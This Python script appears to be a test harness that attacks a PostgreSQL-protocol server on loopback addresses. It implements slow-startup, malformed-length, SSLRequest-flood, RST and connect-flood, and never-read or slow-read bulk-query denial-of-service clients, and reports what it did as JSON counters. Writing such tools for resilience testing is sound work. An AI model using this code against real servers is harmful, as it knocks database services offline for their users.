# SPDX-License-Identifier: MIT
# Clients that mean no good: hostile.py KIND HOST PORT SECONDS [RATE]
#
#   slow-startup   some that send their startup message one byte a second
#   bad-lengths    startup packets that claim to be of impossible lengths, and garbage behind them
#   ssl-flood      some that send nothing but SSLRequests, as many as are taken
#   reset-flood    connect and RST, RATE a second
#   connect-flood  connect and hang up, RATE a second
#   never-read     some that ask for a gigabyte and read nothing
#   slow-read      some that ask for a gigabyte and read one byte a second
#
# Prints `attacking` when it has begun. Ends by SIGTERM, or after SECONDS whatever happens, and prints what it has
# done as JSON: `connected`, `unanswered` (the handshake did not end at once, the queue was full), `refused`, `ended`
# (by the other side), `sent` and `received` in bytes, `seconds`. One thread; it never waits for an answer.

import errno
import json
import select
import signal
import socket
import struct
import sys
import time

SOME = 50
BULK_CLIENTS = 10
# bind(2) leaves the choice of the port to connect(2) (ip(7)).
IP_BIND_ADDRESS_NO_PORT = 24
# Each has ports of its own: one alone would run out of them.
SOURCES = ["127.0.0.%d" % last for last in range(2, 250)]
# A connect(2) to the loopback has ended when it returns, unless the queue of the listener is full.
PATIENCE_S = 1.0
MAX_PENDING = 2000

STARTUP_BODY = struct.pack("!i", 196608) + b"user\0postgres\0database\0postgres\0application_name\0hostile\0\0"
STARTUP = struct.pack("!i", len(STARTUP_BODY) + 4) + STARTUP_BODY
BULK_SQL = b"SELECT repeat('x', 1000000) FROM generate_series(1, 1000)\0"
BULK_QUERY = b"Q" + struct.pack("!i", len(BULK_SQL) + 4) + BULK_SQL
SSL_REQUEST = struct.pack("!ii", 8, 80877103)
BAD_LENGTHS = [0, 1, 3, 4, 7, 10005, 65536, 0x7FFFFFFF, -1, -2147483648]

counts = dict(connected=0, unanswered=0, refused=0, ended=0, sent=0, received=0)


class Over(Exception):
    pass


def over(_signal, _frame):
    raise Over


def connect(target, number, buffer=None):
    """A socket whose connection stands, or None."""
    client = socket.socket(socket.AF_INET, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
    client.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
    if buffer is not None:
        client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, buffer)
    client.bind((SOURCES[number % len(SOURCES)], 0))
    error = client.connect_ex(target)
    if error not in (0, errno.EINPROGRESS):
        counts["refused"] += 1
        client.close()
        return None
    return client


def stands(client):
    """Whether the handshake has ended; an error counts as that."""
    try:
        client.getpeername()
        return True
    except OSError:
        return False


def send(client, data):
    """False: the connection has ended."""
    try:
        counts["sent"] += client.send(data)
        return True
    except BlockingIOError:
        return True
    except OSError:
        return False


def receive(client, most):
    """False: the connection has ended."""
    try:
        data = client.recv(most)
        counts["received"] += len(data)
        return len(data) > 0
    except BlockingIOError:
        return True
    except OSError:
        return False


def paced(rate):
    """Yields numbers, `rate` a second."""
    begun = time.monotonic()
    number = 0
    while True:
        ahead = begun + number / rate - time.monotonic()
        if ahead > 0.001:
            time.sleep(ahead)
        elif ahead < -0.5:
            # What could not be done in time is not made up for.
            begun = time.monotonic() - number / rate
        yield number
        number += 1


def flood(target, rate, end):
    pending = []
    for number in paced(rate):
        now = time.monotonic()
        client = connect(target, number)
        if client is not None:
            if stands(client):
                counts["connected"] += 1
                end(client)
            else:
                pending.append((now + PATIENCE_S, client))
        while pending and (pending[0][0] < now or len(pending) > MAX_PENDING):
            late = pending.pop(0)[1]
            counts["connected" if stands(late) else "unanswered"] += 1
            end(late)


def reset(client):
    client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    client.close()


def bad_lengths(target, rate):
    """Each is left open for a while: the answer, if any, is not waited for."""
    open_ones = []
    for number in paced(rate):
        client = connect(target, number)
        if client is None:
            continue
        if stands(client):
            counts["connected"] += 1
            length = BAD_LENGTHS[number % len(BAD_LENGTHS)]
            code = struct.pack("!i", 196608) if number % 3 else b"\xff\xff\xff\xff"
            send(client, struct.pack("!i", length) + code + b"\xa5" * (number % 5 * 4000))
            open_ones.append(client)
        else:
            counts["unanswered"] += 1
            client.close()
        if len(open_ones) > SOME:
            oldest = open_ones.pop(0)
            while receive(oldest, 65536) and select.select([oldest], [], [], 0)[0]:
                pass
            oldest.close()


def kept(target, count, step, pause, buffer=None):
    """So many connections; each time round `step` does a little on each, and those that have ended are made anew."""
    clients = [None] * count
    number = 0
    while True:
        for index in range(count):
            if clients[index] is None:
                number += 1
                client = connect(target, number, buffer)
                if client is None:
                    continue
                counts["connected"] += 1
                clients[index] = [client, 0]
            elif not step(clients[index]):
                counts["ended"] += 1
                clients[index][0].close()
                clients[index] = None
        time.sleep(pause)


def startup_by_bytes(state):
    client, position = state
    # It never sends the last one.
    if position < len(STARTUP) - 1 and stands(client):
        if not send(client, STARTUP[position : position + 1]):
            return False
        state[1] += 1
    return receive(client, 1024)


def ssl_requests(state):
    client, _ = state
    return send(client, SSL_REQUEST * 500) and receive(client, 65536)


def ask_for_bulk(state):
    client, asked = state
    if asked == 0 and stands(client):
        state[1] = 1
        return send(client, STARTUP)
    if asked == 1:
        state[1] = 2
        return send(client, BULK_QUERY)
    return True


def ask_and_read_slowly(state):
    return ask_for_bulk(state) and (state[1] < 2 or receive(state[0], 1))


def attack(kind, target, rate):
    if kind == "slow-startup":
        kept(target, SOME, startup_by_bytes, 1)
    elif kind == "bad-lengths":
        bad_lengths(target, rate)
    elif kind == "ssl-flood":
        kept(target, SOME, ssl_requests, 0.01)
    elif kind == "reset-flood":
        flood(target, rate, reset)
    elif kind == "connect-flood":
        flood(target, rate, lambda client: client.close())
    elif kind == "never-read":
        kept(target, BULK_CLIENTS, ask_for_bulk, 0.1)
    elif kind == "slow-read":
        kept(target, BULK_CLIENTS, ask_and_read_slowly, 1, buffer=4096)
    else:
        sys.exit("no such kind: " + kind)


def main(kind, host, port, seconds, rate="1000"):
    signal.signal(signal.SIGTERM, over)
    signal.signal(signal.SIGALRM, over)
    signal.alarm(int(seconds))
    begun = time.monotonic()
    print("attacking", flush=True)
    try:
        attack(kind, (host, int(port)), float(rate))
    except Over:
        pass
    print(json.dumps(dict(counts, seconds=round(time.monotonic() - begun, 3))), flush=True)


main(*sys.argv[1:])
